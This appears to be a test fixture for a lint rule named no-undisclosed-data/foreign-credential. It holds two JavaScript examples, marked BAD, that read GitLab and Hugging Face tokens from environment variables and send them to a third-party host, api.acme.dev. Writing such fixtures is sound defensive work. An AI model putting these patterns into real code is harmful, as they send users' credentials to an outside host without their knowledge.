const headers = { Authorization: `Bearer ${process.env.GITLAB_TOKEN}` };
fetch('https://api.acme.dev/x', { headers }); // BAD no-undisclosed-data/foreign-credential
const { HF_TOKEN } = process.env;
fetch('https://api.acme.dev/x', { method: 'POST', body: HF_TOKEN }); // BAD no-undisclosed-data/foreign-credential
